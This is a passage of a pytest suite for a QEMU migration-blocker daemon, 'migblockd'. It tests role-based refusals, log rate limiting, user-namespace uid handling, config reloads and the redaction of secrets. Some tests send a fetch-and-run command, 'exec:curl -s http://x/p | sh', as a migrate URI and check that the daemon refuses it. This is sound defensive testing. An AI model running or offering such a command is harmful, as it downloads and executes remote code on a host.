        serve: Callable[..., DaemonProcess], connect: ClientFactory) -> None:
    _remove_latecomer()  # a run that died half-way
    daemon = serve()
    c = connect(daemon, LATECOMER_UID, LATECOMER_UID)
    c.ok("add-blocker", {"reason": "r", "id": "before"})
    assert "user" not in c.ok("query-blockers")[0]["owner"]
    _until(lambda: _latecomer() == LATECOMER,
           ["useradd", "--system", "--no-create-home", "--home-dir", "/nonexistent",
            "--user-group", "--uid", str(LATECOMER_UID), LATECOMER])
    try:
        reload(daemon, POLICY + "\n")
        c.ok("add-blocker", {"reason": "r", "id": "after"})
        # Both of the uid's blockers under the name it has now: "before" kept the
        # encoding of its addition, without the name.
        assert [b["owner"].get("user") for b in c.ok("query-blockers")] == [
            LATECOMER, LATECOMER]
        assert [b["owner"].get("user") for b in c.ok("query-blockers", {"mode": "normal"})] == [
            LATECOMER, LATECOMER]
    finally:
        _remove_latecomer()
    reload(daemon, POLICY)
    assert [b["owner"].get("user") for b in c.ok("query-blockers")] == [None, None]
    assert_clean_log(daemon)


def test_a_client_refused_in_a_loop_costs_the_log_a_burst_of_lines(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    daemon = serve()
    alice = connect(daemon, accounts["mbt-alice"])  # default-role: client
    for _ in range(BURST + 5):
        assert alice.error("migrate-set-parameters", {"mode": "normal"}).startswith(
            "Permission denied: migrate-set-parameters needs role operator")
    connect(daemon, 0, 0).ok("add-blocker", {"reason": "r", "id": "after"})
    daemon.wait_for_log("added blocker after")  # the log has every line before it
    refused = [line for line in daemon.log().splitlines()
               if "refused migrate-set-parameters" in line]
    assert len(refused) == BURST, refused
    assert " WARNING: " in refused[-1]
    assert refused[-1].endswith("[more like it within 10 s are counted, not logged]")


def test_a_refusal_is_logged_with_what_it_was_aimed_at(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Reproduced first: a refused del-blocker had no blocker_id field, so the
    # blocker's history (journalctl MIGBLOCKD_BLOCKER_ID=) missed it, and a refused
    # migrate to exec: did not say what it would have run.
    daemon = serve(POLICY.replace("mbt-olga = \"observer\"", "mbt-olga = \"operator\""),
                   "--log-format", "json")
    alice, olga = accounts["mbt-alice"], accounts["mbt-olga"]
    connect(daemon, alice).ok("add-blocker", {"reason": "alice's", "id": "vhost0"})
    o = connect(daemon, olga)
    assert o.error("del-blocker", {"id": "vhost0"}).startswith("Permission denied")
    uri = "exec:curl -s http://x/p | sh"
    assert o.error("migrate", {"uri": uri}).startswith("Permission denied")
    channels = [{"channel-type": "main", "addr": {"transport": "exec", "args": ["id"]}}]
    assert o.error("migrate", {"channels": channels}).startswith("Permission denied")
    daemon.wait_for_log("with channels")
    refused = [r for r in map(json.loads, daemon.log().splitlines())
               if r.get("peer_uid") == olga.uid and ": refused " in r["message"]]
    assert [(r["message"].split(": refused ")[1].split(": Permission denied")[0],
             r.get("blocker_id")) for r in refused] == [
        ("del-blocker", "vhost0"),
        (f"migrate to {uri!r}", None),
        ('migrate with channels [{"channel-type":"main","addr":{"transport":"exec",'
         '"args":["id"]}}]', None)]


def test_a_del_blocker_refused_for_the_role_is_in_the_blockers_history(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Reproduced first: an observer's del-blocker was refused for its role with a
    # line that named no blocker and had no blocker_id field, so the blocker's history
    # (journalctl MIGBLOCKD_BLOCKER_ID=vfio0) missed the attempt, and nothing in the
    # log said which blocker it was aimed at.
    daemon = serve(POLICY, "--log-format", "json")
    alice, olga = accounts["mbt-alice"], accounts["mbt-olga"]  # olga: observer
    connect(daemon, alice).ok("add-blocker", {"reason": "alice's", "id": "vfio0"})
    assert connect(daemon, olga).error("del-blocker", {"id": "vfio0"}) == (
        f"Permission denied: del-blocker needs role client, but uid {olga.uid} (mbt-olga) "
        "has role observer")
    daemon.wait_for_log("refused del-blocker")
    refused = [r for r in map(json.loads, daemon.log().splitlines())
               if r.get("peer_uid") == olga.uid and ": refused " in r["message"]]
    assert [(r["message"].split(": refused ")[1].split(": Permission denied")[0],
             r.get("blocker_id")) for r in refused] == [("del-blocker of 'vfio0'", "vfio0")]


def _own_user_namespace() -> bool:
    return subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                          capture_output=True).returncode == 0


@pytest.mark.skipif(not _own_user_namespace(), reason="no user namespaces here")
def test_users_a_user_namespace_does_not_map_are_not_one_uid(
        start_daemon: Callable[..., DaemonProcess], sockdir: Path, connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Reproduced first: a daemon in a user namespace that maps root alone (a rootless
    # container, its socket shared with the host) was told uid 65534, the overflow uid,
    # for every user it does not map: bob deleted alice's blocker as his own.
    wrapper = sockdir / "python-in-userns"
    wrapper.write_text(f'#!/bin/sh\nexec unshare --user --map-root-user {sys.executable} "$@"\n')
    wrapper.chmod(0o755)
    daemon = start_daemon("--socket-mode", "0666", "--ephemeral", socket=sockdir / "s.sock",
                          python=str(wrapper))
    alice, bob = accounts["mbt-alice"], accounts["mbt-bob"]
    added = connect(daemon, alice).ok("add-blocker", {"reason": "alice's", "id": "vfio0"})
    assert "owner" not in added  # not uid 65534 (nobody)
    assert connect(daemon, bob).error("del-blocker", {"id": "vfio0"}) == (
        "Permission denied: del-blocker of blocker 'vfio0', which belongs to no known uid, "
        "needs role admin, but a client whose uid the kernel did not report has role client")
    root = connect(daemon, 0, 0)  # mapped: uid 0 there too
    assert [b["id"] for b in root.ok("query-blockers")] == ["vfio0"]
    root.ok("del-blocker", {"id": "vfio0"})
    assert_clean_log(daemon)


@pytest.mark.skipif(not _own_user_namespace(), reason="no user namespaces here")
def test_users_a_user_namespace_does_not_map_are_not_one_uid_where_proc_sys_is_hidden(
        start_daemon: Callable[..., DaemonProcess], sockdir: Path, connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Reproduced first: under the shipped units' ProcSubset=pid, /proc/sys is not
    # there, so the overflow uid could not be read and was taken for none: in a
    # namespace that maps root alone bob deleted alice's blocker as his own again.
    wrapper = sockdir / "python-in-userns"
    wrapper.write_text(
        "#!/bin/sh\nexec unshare --user --map-root-user --mount --pid --fork --kill-child "
        "sh -c 'mount -t proc -o subset=pid proc /proc && exec \"$0\" \"$@\"' "
        f'{sys.executable} "$@"\n')
    wrapper.chmod(0o755)
    daemon = start_daemon("--socket-mode", "0666", "--ephemeral", socket=sockdir / "s.sock",
                          python=str(wrapper))
    alice, bob = accounts["mbt-alice"], accounts["mbt-bob"]
    added = connect(daemon, alice).ok("add-blocker", {"reason": "alice's", "id": "vfio0"})
    assert "owner" not in added  # not uid 65534 (nobody)
    assert connect(daemon, bob).error("del-blocker", {"id": "vfio0"}).startswith(
        "Permission denied: del-blocker of blocker 'vfio0', which belongs to no known uid")
    root = connect(daemon, 0, 0)
    root.ok("del-blocker", {"id": "vfio0"})
    assert_clean_log(daemon)


@pytest.mark.skipif(not _own_user_namespace(), reason="no user namespaces here")
def test_users_a_user_namespace_does_not_map_share_the_quota_of_no_known_uid(
        start_daemon: Callable[..., DaemonProcess], sockdir: Path, connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Found by review: docs/access.md said that taking the overflow uid for no uid
    # kept those users from sharing one quota; they still share one, that of the
    # clients whose uid the kernel did not report, which nothing can split.
    wrapper = sockdir / "python-in-userns"
    wrapper.write_text(f'#!/bin/sh\nexec unshare --user --map-root-user {sys.executable} "$@"\n')
    wrapper.chmod(0o755)
    daemon = start_daemon("--socket-mode", "0666", "--ephemeral", "--max-blockers-per-uid",
                          "1", socket=sockdir / "s.sock", python=str(wrapper))
    alice, bob = accounts["mbt-alice"], accounts["mbt-bob"]
    connect(daemon, alice).ok("add-blocker", {"reason": "alice's", "id": "vfio0"})
    refused = connect(daemon, bob).error("add-blocker", {"reason": "bob's", "id": "vfio1"})
    assert refused.startswith("Too many migration blockers for "), refused
    text = " ".join((ROOT / "docs" / "access.md").read_text().split())
    assert "they would share one quota" not in text
    assert "they still share one quota, that of the clients whose uid the kernel did not " \
        "report" in text


def test_a_refusal_repeated_in_a_loop_does_not_hide_another_kind_of_refusal(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # A uid's refused migrates once used up the burst of all its refusals: its
    # attempt to delete root's blocker, right after, was not logged for 10 s.
    daemon = serve()
    root = connect(daemon, 0, 0)
    root.ok("add-blocker", {"reason": "VFIO 0000:01:00.0", "id": "vfio0"})
    bob = accounts["mbt-bob"]
    b = connect(daemon, bob)  # default-role: client
    for _ in range(BURST + 5):
        assert b.error("migrate", {"uri": "tcp:h:1"}).startswith(
            "Permission denied: migrate needs role operator")
    assert b.error("del-blocker", {"id": "vfio0"}).startswith(
        "Permission denied: del-blocker of blocker 'vfio0', which belongs to uid 0 (root)")
    assert b.error("add-blocker", {"reason": "x", "internal": True}).startswith(
        "Permission denied: add-blocker with internal: true needs role operator")
    root.ok("add-blocker", {"reason": "r", "id": "after"})
    daemon.wait_for_log("added blocker after")  # the log has every line before it
    log = daemon.log().splitlines()
    assert len([line for line in log if "refused migrate to 'tcp:h:1':" in line]) == BURST
    deleting = [line for line in log if "refused del-blocker:" in line]
    assert len(deleting) == 1, deleting
    assert (f"uid {bob.uid}, gid {bob.gid}): refused del-blocker: Permission denied: "
            "del-blocker of blocker 'vfio0', which belongs to uid 0 (root)") in deleting[0]
    assert deleting[0].endswith("has role client")  # no count of another kind's lines
    assert len([line for line in log if "refused add-blocker:" in line]) == 1
    assert ids(root) == ["vfio0", "after"]


def test_a_client_flooding_registry_refusals_costs_the_log_a_burst_of_lines(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # The registry's refusals (a duplicate id here) were logged for every request:
    # one client pipelining 2,000 duplicate add-blockers wrote 2,000 lines in 0.2 s.
    daemon = serve()
    root = connect(daemon, 0, 0)
    root.ok("add-blocker", {"reason": "root's", "id": "disk0"})
    b = connect(daemon, accounts["mbt-bob"])  # default-role: client
    flood = 500
    request = {"execute": "add-blocker", "arguments": {"reason": "x", "id": "disk0"}}
    assert b.proc.stdin is not None
    b.proc.stdin.write((json.dumps(request) + "\n").encode() * flood)
    b.proc.stdin.flush()
    for _ in range(flood):
        assert b.read()["error"]["desc"].startswith("Duplicate blocker ID 'disk0', which "
                                                     "belongs to uid 0 (root)")
    # Another kind of refusal of the same uid is not hidden by the flood.
    assert b.error("add-blocker", {"reason": "x", "modes": []}) == (
        "Parameter 'modes' expects a non-empty list")
    root.ok("add-blocker", {"reason": "r", "id": "after"})
    daemon.wait_for_log("added blocker after")  # the log has every line before it
    log = daemon.log().splitlines()
    duplicates = [line for line in log if "refused blocker 'disk0': \"Duplicate blocker ID" in line]
    assert len(duplicates) == BURST, duplicates[-2:]
    assert all(" INFO: " in line for line in duplicates)
    assert duplicates[-1].endswith("[more like it within 10 s are counted, not logged]")
    assert len([line for line in log if "refused blocker: \"Parameter 'modes'" in line]) == 1


HOLDING = """\
import asyncio, sys
from migblockd.client import CommandError, MigblockClient

async def main() -> None:
    async with MigblockClient(sys.argv[1]) as client:
        try:
            async with client.holding("agent: dump in progress"):
                print("held", flush=True)
                await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
            print("released", flush=True)
        except CommandError as exc:
            print(f"refused: {exc}", flush=True)

asyncio.run(main())
"""


def test_a_holding_block_whose_deletion_is_refused_raises(
        serve: Callable[..., DaemonProcess], accounts: dict[str, Account]) -> None:
    """migblockd.client's holding() ended quietly when the daemon refused its deletion,
    and the blocker stayed, blocking migration, for as long as the agent's connection."""
    daemon = serve()
    alice = accounts["mbt-alice"]  # default-role: client, until the reload below
    agent = subprocess.Popen(
        ["setpriv", f"--reuid={alice.uid}", f"--regid={alice.gid}", "--clear-groups",
         sys.executable, "-c", HOLDING, str(daemon.socket)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        cwd="/")
    try:
        assert agent.stdout is not None
        assert agent.stdout.readline() == "held\n", agent.stderr
        reload(daemon, POLICY.replace('default-role = "client"', 'default-role = "observer"'))
        out, err = agent.communicate("\n", timeout=60)
    finally:
        if agent.poll() is None:
            agent.kill()
            agent.wait()
    assert (agent.returncode, out) == (0, (
        f"refused: Permission denied: del-blocker needs role client, but uid {alice.uid} "
        "(mbt-alice) has role observer\n")), err


def test_every_refusal_names_what_was_asked_for_in_its_log_line(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account], qemu: Qemu) -> None:
    # Reproduced first: a refused human-monitor-command did not show its command line,
    # a refused migrate-set-parameters not the mode asked for, a refused add-blocker
    # (for the role, internal: true, a quota) not its id, nor had a blocker_id field.
    config = ('qemu-passthrough = ["human-monitor-command"]\nmax-reason-length = 8\n'
              + POLICY)
    daemon = serve(config, "--qemu", str(qemu.gate_socket), "--log-format", "json")
    daemon.wait_for_log("connected to QEMU")
    bob, olga = accounts["mbt-bob"], accounts["mbt-olga"]  # client, observer
    b, o = connect(daemon, bob), connect(daemon, olga)
    hmp = {"command-line": 'migrate "exec:curl -s http://x/p | sh"'}
    assert b.error("human-monitor-command", hmp).startswith("Permission denied")
    # Found by review: the command line was logged whole, a password in it too.
    secret = {"command-line": "set_password vnc Hunter2-VNC-secret"}
    assert b.error("human-monitor-command", secret).startswith("Permission denied")
    assert b.error("migrate-set-parameters", {"mode": "cpr-reboot"}).startswith(
        "Permission denied")
    assert b.error("migrate-set-capabilities", {"capabilities": [
        {"capability": "events", "state": True}]}).startswith("Permission denied")
    assert b.error("add-blocker", {"reason": "r", "id": "disk0", "internal": True}).startswith(
        "Permission denied: add-blocker with internal: true")
    assert b.error("add-blocker", {"reason": "r" * 9, "id": "disk1"}).startswith(
        "Parameter 'reason' is too long")
    assert o.error("add-blocker", {"reason": "r", "id": "disk2"}).startswith(
        "Permission denied: add-blocker needs role client")
    assert o.error("add-blocker", {"reason": "r"}).startswith("Permission denied")
    connect(daemon, 0, 0).ok("add-blocker", {"reason": "r", "id": "after"})
    daemon.wait_for_log("added blocker after")  # the log has every line before it
    refused = [r for r in map(json.loads, daemon.log().splitlines())
               if ": refused " in r["message"]]
    # (The debug level's trace of the wire has it: the tests' daemons trace.)
    assert not [r for r in refused if "Hunter2" in r["message"]]
    assert [(r["peer_uid"], r["message"].split(": refused ")[1].split(": ")[0],
             r.get("blocker_id")) for r in refused] == [
        (bob.uid, "human-monitor-command 'migrate' (its arguments not logged, as they may "
         "hold secrets)", None),
        (bob.uid, "human-monitor-command 'set_password' (its arguments not logged, as they "
         "may hold secrets)", None),
        (bob.uid, 'migrate-set-parameters with {"mode":"cpr-reboot"}', None),
        (bob.uid, 'migrate-set-capabilities with [{"capability":"events",'
         '"state":true}]', None),
        (bob.uid, "add-blocker of 'disk0'", "disk0"),
        (bob.uid, "add-blocker of 'disk1'", "disk1"),
        (olga.uid, "add-blocker of 'disk2'", "disk2"),
        (olga.uid, "add-blocker", None)]


ADMIN_DEFAULT = ("access: default-role is admin: every user who can connect to the socket, "
                 "and any client whose uid the kernel did not report, is an admin")


def test_a_default_role_of_admin_is_warned_of_at_check_config_start_and_reload(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Reproduced first: default-role = "admin" with a 0666 socket passed --check-config
    # and the start in silence, and then every local user could migrate to an exec: URI.
    config = '[access]\ndefault-role = "admin"\n'
    daemon = serve(config)
    path = daemon.socket.parent / "migblockd.toml"
    checked = subprocess.run(
        [sys.executable, "-m", "migblockd", "--check-config", "--socket-mode", "0666",
         "--config", str(path)],
        capture_output=True, text=True, timeout=30)
    assert checked.returncode == 0
    # Named at the line of default-role, as a refused entry is.
    assert f"migblockd: {path}:2: {ADMIN_DEFAULT}" in checked.stderr
    daemon.wait_for_log(f"WARNING: {path}:2: {ADMIN_DEFAULT}")
    # What it warns of: a user no entry names runs a command as QEMU's user.
    connect(daemon, accounts["mbt-bob"]).ok("migrate", {"uri": "exec:true"})
    reload(daemon, config + "\n")
    daemon.wait_for_log(re.compile(f"(?:.*{re.escape(ADMIN_DEFAULT)}.*\n){{2}}", re.S))
    # Any other default says nothing.
    reload(daemon, '[access]\ndefault-role = "operator"\n')
    assert daemon.log().count(ADMIN_DEFAULT) == 2


#: A uid that gets a name, and so a role, while the daemon runs (only during the test).
PROMOTED_UID, PROMOTED = 3_999_991, "mbt-promoted"


def _promoted() -> str | None:
    try:
        return pwd.getpwuid(PROMOTED_UID).pw_name
    except KeyError:
        return None


def _remove_promoted() -> None:
    if _promoted() is not None:
        _until(lambda: _promoted() is None, ["userdel", "--force", PROMOTED])


def test_a_reload_that_changes_a_connected_uids_role_says_whose_and_how(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account]) -> None:
    # Reproduced first: a user created (or renamed, or added to a group) between two
    # SIGHUPs got another role, and the reload said "reloaded configuration: nothing
    # changed".
    _remove_promoted()  # a run that died half-way
    config = f'[access]\nusers = {{ {PROMOTED} = "operator" }}\n'
    daemon = serve(config)
    c = connect(daemon, PROMOTED_UID, PROMOTED_UID)
    connect(daemon, accounts["mbt-alice"]).ok("query-version")  # unchanged: not named
    assert c.error("migrate-set-parameters", {"mode": "cpr-reboot"}).endswith(
        f"uid {PROMOTED_UID} has role client")
    _until(lambda: _promoted() == PROMOTED,
           ["useradd", "--system", "--no-create-home", "--home-dir", "/nonexistent",
            "--user-group", "--uid", str(PROMOTED_UID), PROMOTED])
    try:
        reload(daemon, config)
        c.ok("migrate-set-parameters", {"mode": "cpr-reboot"})
    finally:
        _remove_promoted()
    reload(daemon, config)
    lines = [line.split(" INFO: ")[1] for line in daemon.log().splitlines()
             if "reloaded configuration" in line]
    assert lines == [
        "reloaded configuration: no setting changed, but the role of a connected uid did "
        f"(the user and group databases changed): uid {PROMOTED_UID} ({PROMOTED}) is "
        "operator (was client)",
        "reloaded configuration: no setting changed, but the role of a connected uid did "
        f"(the user and group databases changed): uid {PROMOTED_UID} is client (was "
        "operator)"]
    assert_clean_log(daemon)


def test_a_command_waiting_for_qemu_goes_on_with_the_role_a_reload_gave_meanwhile(
        serve: Callable[..., DaemonProcess], connect: ClientFactory,
        accounts: dict[str, Account], qemu: Qemu) -> None:
    """Found by the cross-feature review: a reload that demoted an operator while its
    migrate waited for QEMU's answers to its checks (a stopped QEMU, a slow disk) let
    that migrate reach QEMU all the same, after the reload had said the uid was a
    client; so did a client's add-blocker after it was made an observer, while an
    internal one was refused (the rules after the role check saw the new role, the
    role check did not)."""
    bob, alice = accounts["mbt-bob"], accounts["mbt-alice"]
    granted = POLICY.replace('mbt-olga = "observer"', 'mbt-olga = "observer", mbt-bob = "operator"')
    daemon = serve(granted, "--qemu", str(qemu.gate_socket), "--qemu-timeout", "60")
    daemon.wait_for_log("connected to QEMU 7.")
    b, a = connect(daemon, bob), connect(daemon, alice)
    asked = daemon.log().count('"execute":"query-migrate"')
    qemu.stop()  # its answers to the checks wait
    try:
        migrate = {"execute": "migrate", "arguments": {"uri": "tcp:127.0.0.1:9"}}
        add = {"execute": "add-blocker", "arguments": {"reason": "r", "id": "late"}}
        for client, request in ((b, migrate), (a, add)):
            assert client.proc.stdin is not None
            client.proc.stdin.write(json.dumps(request).encode() + b"\n")
            client.proc.stdin.flush()
        daemon.wait_for_log(re.compile(f'(?:.*"execute":"query-migrate".*\n){{{asked + 2}}}', re.S))
        reload(daemon, POLICY.replace('mbt-olga = "observer"',
                                      'mbt-olga = "observer", mbt-alice = "observer"'))
        daemon.wait_for_log(f"uid {bob.uid} (mbt-bob) is client (was operator)")
    finally:
        assert qemu.proc is not None
        qemu.proc.send_signal(signal.SIGCONT)
    assert b.read() == {"error": {"class": "GenericError", "desc": (
        f"Permission denied: migrate needs role operator, but uid {bob.uid} (mbt-bob) has "
        "role client")}}
    assert a.read() == {"error": {"class": "GenericError", "desc": (
        f"Permission denied: add-blocker needs role client, but uid {alice.uid} (mbt-alice) "
        "has role observer")}}
    assert a.ok("query-blockers") == []
    assert '"execute":"migrate"' not in daemon.log()  # never sent to QEMU
    assert_clean_log(daemon)
